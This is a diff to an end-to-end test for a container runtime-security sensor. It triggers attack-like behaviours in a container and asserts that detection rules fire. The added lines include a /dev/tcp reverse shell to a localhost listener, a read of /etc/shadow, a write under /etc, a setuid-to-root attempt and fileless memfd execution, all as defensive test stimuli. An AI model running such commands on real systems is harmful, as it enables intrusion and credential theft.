@@ -336,6 +336,11 @@ def test_rules_fire_live(tmp_path):
     p = subprocess.Popen(args, stderr=err)
     tag = "douane-e2e-" + secrets.token_hex(4)
     shm_bin = f"/dev/shm/{tag}"
+    lis = Listener()
+    bindir = tmp_path / "bin"
+    bindir.mkdir()
+    # a container runtime's name for the pty shell's parent (Falco's container_entrypoint)
+    (bindir / "runc").symlink_to(shutil.which("script"))
     try:
         time.sleep(3)           # attach
         if p.poll() is not None:
@@ -343,6 +348,10 @@ def test_rules_fire_live(tmp_path):
             pytest.fail(f"douane sensor exited {p.returncode}: {msg}")
         run_in_container(cg, f"""
 cat /etc/shadow /nonexistent/{tag} > /dev/null 2>&1 || true
+{bindir}/runc -qc "/bin/sh -c 'true {tag}'" /dev/null < /dev/null > /dev/null
+bash -c 'exec 3<>/dev/tcp/127.0.0.1/{lis.port}; sh <&3 >&3 2>&3 # {tag}'
+echo x > /etc/{tag}; rm -f /etc/{tag}
+{PY} -c 'import os; os.setresuid(65534, 65534, 0); os.setuid(0)'
 cp /bin/true {shm_bin}; {shm_bin}; rm -f {shm_bin}
 {PY} -c 'import os; fd = os.memfd_create("%s", 0); os.write(fd, open("/bin/true", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["memfd-true"])' {tag}
 """.replace('"%s"', "sys.argv[1]").replace("import os;", "import os, sys;"))
@@ -352,12 +361,14 @@ cp /bin/true {shm_bin}; {shm_bin}; rm -f {shm_bin}
         p.terminate()
         p.wait(timeout=20)
         err.close()
+        lis.close()
         cg.remove()
         quiet.remove()
-        try:
-            os.unlink(shm_bin)
-        except FileNotFoundError:
-            pass
+        for f in (shm_bin, f"/etc/{tag}"):
+            try:
+                os.unlink(f)
+            except FileNotFoundError:
+                pass
     alerts = [json.loads(l) for l in alerts_file.read_text().splitlines() if l.strip()] \
         if alerts_file.exists() else []
 
@@ -367,10 +378,16 @@ cp /bin/true {shm_bin}; {shm_bin}; rm -f {shm_bin}
     def text(a):
         return json.dumps(a)
 
-    mine = [a for a in alerts if tag in text(a) or cg.id in text(a)]
+    # container.id is Falco's 12-character short id
+    mine = [a for a in alerts if tag in text(a) or cg.id[:12] in text(a)]
     rules_fired = {a["rule"] for a in mine}
     print("alerts for the workload:", sorted(rules_fired))
     assert "Execution from /dev/shm" in rules_fired or "Drop and execute new binary in container" in rules_fired, rules_fired
     assert "Read sensitive file untrusted" in rules_fired, rules_fired
     assert "Fileless execution via memfd_create" in rules_fired, rules_fired
-    assert not [a for a in alerts if quiet.id in text(a)], "baseline raised alerts"
+    assert "Terminal shell in container" in rules_fired, rules_fired
+    assert "Write below /etc" in rules_fired, rules_fired                  # douane's rules
+    assert "Reverse shell connect" in rules_fired, rules_fired
+    assert "Privilege change to root" in rules_fired, rules_fired
+    assert "Redirect STDOUT/STDIN to Network Connection in Container" in rules_fired, rules_fired
+    assert not [a for a in alerts if quiet.id[:12] in text(a)], "baseline raised alerts"
